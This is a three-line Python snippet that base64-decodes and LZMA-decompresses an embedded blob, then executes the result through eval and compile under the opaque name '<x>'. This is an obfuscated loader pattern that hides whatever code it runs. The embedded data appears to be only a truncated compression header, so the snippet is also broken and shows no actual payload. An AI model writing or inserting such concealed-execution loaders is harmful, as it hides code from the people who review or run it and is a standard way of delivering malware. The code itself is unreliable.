import lzma, base64
src = lzma.decompress(base64.b64decode(b'/Td6WFoAAATm1rRG'))
eval(compile(src, '<x>', 'exec'))
